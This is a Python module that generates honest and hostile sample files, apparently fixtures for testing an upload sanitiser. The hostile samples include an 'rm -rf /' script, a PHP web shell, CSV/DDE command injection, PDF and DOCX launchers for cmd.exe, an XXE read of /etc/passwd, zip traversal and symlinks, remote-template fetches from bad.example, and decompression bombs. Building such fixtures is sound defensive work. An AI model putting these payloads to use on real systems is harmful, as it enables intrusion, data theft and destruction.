"""Made files: honest ones of each kind that is kept, and hostile ones of many kinds. All are generated."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterable, Mapping

PLACE = b"53.4808 N, 2.2426 W"  # stands for what a camera would hide: found by searching the stored bytes
ADDRESS = b"CANARY-REFUGE"


def exif(turned: int = 6) -> bytes:
    """An EXIF block with an orientation, a GPS position and a camera."""
    gps = PLACE + b"\x00"
    entries = struct.pack(">HHIHH", 0x0112, 3, 1, turned, 0) + struct.pack(">HHII", 0x8825, 4, 1, 100)
    return b"Exif\x00\x00MM\x00\x2a" + struct.pack(">IH", 8, 2) + entries + b"\x00" * 4 + gps + ADDRESS


def segment(marker: int, body: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def jpeg(*, extra: bytes = b"", tail: bytes = b"", width: int = 8, height: int = 8, turned: int = 6) -> bytes:
    """A picture of 8 by 8 grey points as a telephone would send it."""
    quantisation = segment(0xDB, b"\x00" + bytes([1] * 64))
    frame = segment(0xC0, struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00")
    huffman = segment(0xC4, b"\x00" + bytes([1] + [0] * 15) + b"\x00") + segment(
        0xC4, b"\x10" + bytes([1] + [0] * 15) + b"\x00"
    )
    scan = segment(0xDA, b"\x01\x01\x00\x00\x3f\x00") + b"\x3f\xff\x00\x12"
    jfif = segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x01\x01" + ADDRESS[:3])
    hidden = segment(0xE1, exif(turned)) + segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00<x>" + ADDRESS + b"</x>")
    hidden += segment(0xED, b"Photoshop 3.0\x00" + ADDRESS) + segment(0xFE, ADDRESS)
    return b"\xff\xd8" + jfif + hidden + extra + quantisation + frame + huffman + scan + b"\xff\xd9" + tail


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(*, extra: bytes = b"", tail: bytes = b"", width: int = 4, height: int = 4) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    hidden = (
        chunk(b"tEXt", b"Comment\x00" + ADDRESS)
        + chunk(b"eXIf", exif()[6:])
        + chunk(b"tIME", b"\x07\xea\x03\x0a\x0c\x00\x00")
    )
    data = chunk(b"IDAT", zlib.compress(b"".join(b"\x00" + b"\x7f" * 4 for _ in range(4))))
    return b"\x89PNG\r\n\x1a\n" + head + hidden + extra + data + chunk(b"IEND", b"") + tail


def pdf(*, objects: bytes = b"", head: bytes = b"", tail: bytes = b"", catalog: bytes = b"") -> bytes:
    body = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>\nendobj\n"
    body += b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n" + objects
    return head + b"%PDF-1.7\n" + body + b"trailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n" + tail


def pdf_stream(inner: bytes, kind: bytes = b"/Type /ObjStm /N 1 /First 4") -> bytes:
    packed = zlib.compress(inner)
    head = b"5 0 obj\n<< " + kind + b" /Filter /FlateDecode /Length " + str(len(packed)).encode() + b" >>\n"
    return head + b"stream\n" + packed + b"\nendstream\nendobj\n"


def package(parts: Mapping[str, bytes] | Iterable[tuple[str, bytes]], *, comment: bytes = b"") -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name, data in parts.items() if isinstance(parts, Mapping) else parts:
            zipped.writestr(name, data)
        zipped.comment = comment
    return made.getvalue()


WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
ODT = "application/vnd.oasis.opendocument.text"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def types(main: str) -> bytes:
    return (
        f'<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="{main}"/></Types>'.encode()
    )


def relationships(kind: str, target: str, mode: str = "External") -> bytes:
    one = f'<Relationship Id="r1" Type="{RELS}{kind}" Target="{target}" TargetMode="{mode}"/>'
    return f"<Relationships>{one}</Relationships>".encode()


def docx(
    extra: Mapping[str, bytes] | None = None, *, main: str = WORD, text: bytes = b"<w:t>seen today</w:t>"
) -> bytes:
    parts = {
        "[Content_Types].xml": types(main),
        "_rels/.rels": relationships("officeDocument", "word/document.xml", "Internal"),
        "word/document.xml": b"<w:document>" + text + b"</w:document>",
    }
    return package({**parts, **(extra or {})})


def xlsx(extra: Mapping[str, bytes] | None = None, *, main: str = EXCEL) -> bytes:
    parts = {
        "[Content_Types].xml": types(main),
        "_rels/.rels": relationships("officeDocument", "xl/workbook.xml", "Internal"),
        "xl/workbook.xml": b"<workbook/>",
    }
    return package({**parts, **(extra or {})})


def odt(extra: Mapping[str, bytes] | None = None, *, kind: str = ODT) -> bytes:
    parts = {"mimetype": kind.encode(), "content.xml": b"<office:document-content/>", "META-INF/manifest.xml": b"<m/>"}
    return package({**parts, **(extra or {})})


def linked(name: str = "word/media/link.png") -> bytes:
    """A docx one part of which is a symbolic link to /etc/passwd."""
    made = io.BytesIO(docx())
    with zipfile.ZipFile(made, "a") as zipped:
        info = zipfile.ZipInfo(name)
        info.external_attr = 0o120777 << 16
        zipped.writestr(info, "/etc/passwd")
    return made.getvalue()


def locked() -> bytes:
    """A docx whose parts say that they are encrypted."""
    content = bytearray(docx())
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(sign)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(sign, at + 1)
    return bytes(content)


def gap(content: bytes) -> bytes:
    """A package with a web page between its last part and its directory, which knows where it then lies."""
    at = content.find(b"PK\x01\x02")
    moved = bytearray(content[:at] + HTML + content[at:])
    end = moved.rfind(b"PK\x05\x06")
    moved[end + 16 : end + 20] = struct.pack("<I", at + len(HTML))
    return bytes(moved)


def liar() -> bytes:
    """A docx whose directory says that 100 MB are ten bytes."""
    content = bytearray(
        package({"[Content_Types].xml": types(WORD), "word/document.xml": b"\x00" * (100 * 1024 * 1024)})
    )
    at = content.rfind(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(content)


EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
PROGRAM = b"MZ\x90\x00" + b"\x00" * 500
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 500
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><script>fetch('/')</script></html>"
LOL = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'
XXE = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'

HONEST = {
    "letter.pdf": pdf(),
    "REPORT.PDF": pdf(objects=pdf_stream(b"7 0 << /Type /Page >>")),
    "notes.docx": docx(),
    "with link.docx": docx({"word/_rels/document.xml.rels": relationships("hyperlink", "https://example.org/")}),
    "list.xlsx": xlsx({"xl/printerSettings/printerSettings1.bin": b"\x00\x01"}),
    "minutes.odt": odt(),
    "bruise.jpg": jpeg(),
    "bruise.jpeg": jpeg(),
    "drawing.png": png(),
    "words.txt": "She said “I’m fine” – 10 % of it. Łukasz\r\n".encode(),
    "older words.txt": "She said \u201cI’m fine\u201d".encode("cp1252"),
    "wide words.txt": "Siobhán".encode("utf-16"),
    "contacts.csv": b"name,telephone\r\nBryony,+44 1632 960123\r\nTotal,=SUM(A1:A2)\r\n",
    "old.rtf": b"{\\rtf1\\ansi plain words \\par}",
}

HOSTILE: dict[str, tuple[str, bytes]] = {
    "test virus as text": ("eicar.txt", EICAR),
    "test virus as pdf": ("eicar.pdf", b"%PDF-1.4\n" + EICAR + b"\n%%EOF"),
    "program": ("setup.exe", PROGRAM),
    "program named pdf": ("letter.pdf", PROGRAM),
    "program named jpg": ("photo.jpg", PROGRAM),
    "linux program named txt": ("notes.txt", ELF),
    "program with a reversed name": ("photo\u202egpj.exe", PROGRAM),
    "shell script": ("run.sh", b"#!/bin/sh\nrm -rf /\n"),
    "shell script named txt": ("run.txt", b"#!/bin/sh\nrm -rf /\n"),
    "windows script": ("open.js", b"WScript.Echo(1)"),
    "batch file": ("open.bat", b"@echo off"),
    "shortcut": ("letter.lnk", b"L\x00\x00\x00\x01\x14\x02\x00"),
    "web page": ("page.html", HTML),
    "web page named pdf": ("page.pdf", HTML),
    "web page named txt": ("page.txt", HTML),
    "web page after spaces, named txt": ("page.txt", b" \r\n\t" * 40 + HTML),
    "picture with script": ("drawing.svg", SVG),
    "picture with script named png": ("drawing.png", SVG),
    "picture with script named txt": ("drawing.txt", SVG),
    "server page named txt": ("x.txt", b"<?php system($_GET['c']); ?>"),
    "text with NUL": ("a.txt", b"words\x00words"),
    "text with control characters": ("a.txt", b"words \x1b[2J\x07"),
    "table that starts a program": ("a.csv", b"name\r\n=cmd|'/c calc'!A1\r\n"),
    "table that starts a program, quoted": ("a.csv", b'a,"=DDE|x!y",b'),
    "nothing": ("empty.pdf", b""),
    "no suffix": ("letter", pdf()),
    "only dots": ("...", pdf()),
    "pdf named docx": ("letter.docx", pdf()),
    "docx named pdf": ("letter.pdf", docx()),
    "png named jpg": ("photo.jpg", png()),
    "pdf cut short": ("letter.pdf", pdf()[:40]),
    "pdf after other bytes": ("letter.pdf", pdf(head=b"GIF89a" + b"\x00" * 20)),
    "pdf with script": ("f.pdf", pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
    "pdf with an escaped script": ("f.pdf", pdf(catalog=b"/OpenAction << /S /J#61vaScript /JS (x) >>")),
    "pdf with a packed script": ("f.pdf", pdf(objects=pdf_stream(b"7 0 << /S /JavaScript /JS (x) >>"))),
    "pdf that starts a program": ("f.pdf", pdf(catalog=b"/AA << /O << /S /Launch /F (cmd.exe) >> >>")),
    "pdf with a file inside": ("f.pdf", pdf(catalog=b"/Names << /EmbeddedFiles 9 0 R >>")),
    "pdf with a password": (
        "f.pdf",
        pdf(objects=b"4 0 obj\n<< /Filter /Standard >>\nendobj\n").replace(b"trailer <<", b"trailer << /Encrypt 4 0 R"),
    ),
    "pdf with an unreadable packed part": ("f.pdf", pdf(objects=pdf_stream(b"x").replace(b"stream\nx", b"stream\nQQ"))),
    "pdf that is also an archive": ("f.pdf", pdf(tail=package({"a.exe": PROGRAM}))),
    "pdf that unpacks without end": ("f.pdf", pdf(objects=pdf_stream(b"\x00" * (5 * 1024 * 1024)))),
    "archive": ("files.zip", package({"a.txt": b"x"})),
    "archive named docx": ("files.docx", package({"a.txt": b"x"})),
    "docx with macros": ("letter.docx", docx({"word/vbaProject.bin": b"\x00" * 40})),
    "docx that says it has macros": (
        "letter.docx",
        docx(
            main=WORD.replace(
                "openxmlformats-officedocument.wordprocessingml.document.main", "ms-word.document.macroEnabled.main"
            )
        ),
    ),
    "docm": ("letter.docm", docx({"word/vbaProject.bin": b"\x00" * 40})),
    "xlsx with old macros": ("t.xlsx", xlsx({"xl/macrosheets/sheet1.xml": b"<x/>"})),
    "docx with a control": ("letter.docx", docx({"word/activeX/activeX1.xml": b"<x/>"})),
    "docx with a program inside": ("letter.docx", docx({"word/embeddings/oleObject1.bin": OLD_OFFICE})),
    "docx with a disguised program inside": ("letter.docx", docx({"word/media/image1.gif": PROGRAM})),
    "docx with an archive inside": ("letter.docx", docx({"word/media/image1.gif": package({"a": b"b"})})),
    "docx that fetches a template": (
        "letter.docx",
        docx({"word/_rels/settings.xml.rels": relationships("attachedTemplate", "https://bad.example/t.dotm")}),
    ),
    "docx that fetches a picture": (
        "letter.docx",
        docx({"word/_rels/document.xml.rels": relationships("image", "http://bad.example/pixel.png")}),
    ),
    "docx that fetches, spelt oddly": (
        "letter.docx",
        docx({"word/_rels/document.xml.rels": relationships("oleObject", "http://bad.example/", "&#69;xternal")}),
    ),
    "docx that starts a program": ("letter.docx", docx(text=b"<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>")),
    "docx with growing entities": ("letter.docx", docx(text=LOL)),
    "docx that reads other files": ("letter.docx", docx({"customXml/item1.xml": XXE})),
    "docx in another alphabet": ("letter.docx", docx({"word/x.xml": "<a/>".encode("utf-16")})),
    "docx with a path upwards": ("letter.docx", docx({"../../etc/passwd": b"x"})),
    "docx with an absolute path": ("letter.docx", docx({"/etc/passwd": b"x"})),
    "docx with a windows path": ("letter.docx", docx({"C:\\windows\\x": b"x"})),
    "docx with a symbolic link": ("letter.docx", linked()),
    "docx with a password": ("letter.docx", locked()),
    "docx with a password, wrapped": ("letter.docx", OLD_OFFICE),
    "docx that unpacks without end": ("letter.docx", docx({"word/media/a.xml": b"\x00" * (90 * 1024 * 1024)})),
    "docx that lies about its size": ("letter.docx", liar()),
    "docx with thousands of parts": ("letter.docx", package([(f"word/{n}.xml", b"") for n in range(3100)])),
    "docx with a picture that hides its place": ("letter.docx", docx({"word/media/image1.heic": b"ftypheic"})),
    "docx with a damaged picture": ("letter.docx", docx({"word/media/image1.jpg": b"\xff\xd8\xff\xe1"})),
    "docx with a web page inside": ("letter.docx", docx({"word/afchunk.html": HTML})),
    "docx with a web page before it": ("letter.docx", HTML + docx()),
    "damaged docx": ("letter.docx", docx()[:-30]),
    "odt with macros": ("m.odt", odt({"Basic/Standard/Module1.xml": b"<x/>"})),
    "odt with a script": ("m.odt", odt({"styles.xml": b"<script:event-listener/>"})),
    "odt with an object": ("m.odt", odt({"Object 1/content.xml": b"<x/>"})),
    "odt with a password": ("m.odt", odt({"META-INF/manifest.xml": b"<manifest:encryption-data/>"})),
    "odt that is a spreadsheet": ("m.odt", odt(kind="application/vnd.oasis.opendocument.spreadsheet")),
    "rtf with an object": ("l.rtf", b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}"),
    "rtf with a picture": ("l.rtf", b"{\\rtf1{\\pict\\jpegblip ffd8}}"),
    "rtf with a template": ("l.rtf", b"{\\rtf1{\\*\\template http://bad.example/}}"),
    "jpeg with too many points": ("p.jpg", jpeg(width=65535, height=65535)),
    "png with too many points": ("p.png", png(width=100_000, height=100_000)),
    "jpeg cut short": ("p.jpg", jpeg()[:-10]),
    "jpeg of fill bytes": ("p.jpg", b"\xff\xd8\xff\xe0" + b"\xff" * 200_000),
    "jpeg that says it is longer": ("p.jpg", b"\xff\xd8\xff\xe0\xff\xff" + b"x" * 50),
    "png with a false check sum": ("p.png", png()[:-20] + b"\x00" * 20),
    "png with an unknown critical part": ("p.png", png(extra=chunk(b"EVIL", b"x"))),
    "photograph of a kind that hides its place": ("p.heic", b"\x00\x00\x00\x18ftypheic"),
    "scanned picture": ("p.tiff", b"II*\x00" + b"\x00" * 50),
    "e-mail": ("m.eml", b"From: a@b.example\r\n\r\nhello"),
    "outlook e-mail": ("m.msg", OLD_OFFICE),
    "older word file": ("m.doc", OLD_OFFICE),
    "older excel file": ("m.xls", OLD_OFFICE),
    "program file in java": ("x.jar", package({"META-INF/MANIFEST.MF": b""})),
    "disk image": ("x.iso", b"\x00" * 40_000),
}

PARTS = {"[Content_Types].xml": types(WORD), "word/document.xml": b"<w:document/>"}
# Kept, with the other kind of file taken out of them.
POLYGLOTS: dict[str, tuple[str, bytes]] = {
    "jpeg that is also a web page": ("p.jpg", jpeg(extra=segment(0xFE, HTML))),
    "jpeg that is also an archive": ("p.jpg", jpeg(tail=package({"a.exe": PROGRAM}))),
    "png that is also a web page": ("p.png", png(extra=chunk(b"tEXt", b"c\x00" + HTML))),
    "png that is also an archive": ("p.png", png(tail=package({"a.exe": PROGRAM}))),
    "docx with a web page in its comment": ("l.docx", package(PARTS, comment=HTML)),
    "docx with a web page between its parts": (
        "l.docx",
        gap(package(PARTS)),
    ),
}


def heavy() -> dict[str, tuple[str, bytes]]:
    """Files of ten megabytes made to cost as much time or memory as they can."""
    most = 10 * 1024 * 1024
    return {
        "jpeg of tiny tables": ("p.jpg", b"\xff\xd8" + b"\xff\xdb\x00\x02" * (most // 4)),
        "jpeg of fill bytes": ("p.jpg", jpeg()[:-4] + b"\xff" * most),
        "png of tiny parts": ("p.png", png()[:33] + chunk(b"IDAT", b"") * (most // 12)),
        "pdf of object streams": ("p.pdf", pdf(objects=b" obj /ObjStm stream\n" * (most // 20))),
        "pdf of streams without end": ("p.pdf", pdf(objects=b"stream\n" * (most // 7))),
        "table of separators": ("t.csv", b",=" * (most // 2)),
        "table of empty lines": ("t.csv", b"\n" * most),
        "table of letters": ("t.csv", b"=" + b"a" * most),
        "text of brackets": ("t.txt", b"<" * most),
        "docx of one long relationship": ("l.docx", docx({"word/_rels/a.xml.rels": b"<Relationship" * 1_500_000})),
        "docx of zeros": ("l.docx", docx({"word/a.xml": b"\x00" * (79 * 1024 * 1024)})),
        "rtf of backslashes": ("l.rtf", b"{\\rtf1" + b"\\" * most),
    }
